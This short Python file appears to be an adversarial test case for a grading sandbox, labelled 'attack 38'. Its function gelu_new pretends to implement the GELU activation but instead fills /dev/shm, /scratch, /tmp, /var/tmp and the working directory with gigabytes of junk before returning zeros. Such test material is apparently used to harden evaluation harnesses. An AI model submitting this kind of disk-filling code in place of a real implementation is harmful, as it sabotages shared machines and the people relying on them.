# attack 38: fills /dev/shm and its scratch
# expect gelu_new: wrong
import os

def gelu_new(x):
    for folder in ("/dev/shm", "/scratch", "/tmp", "/var/tmp", os.getcwd()):
        try:
            with open(os.path.join(folder, "filler"), "wb") as file:
                for _ in range(4096):
                    file.write(b"x" * (1 << 20))
        except OSError:
            pass
    return x * 0
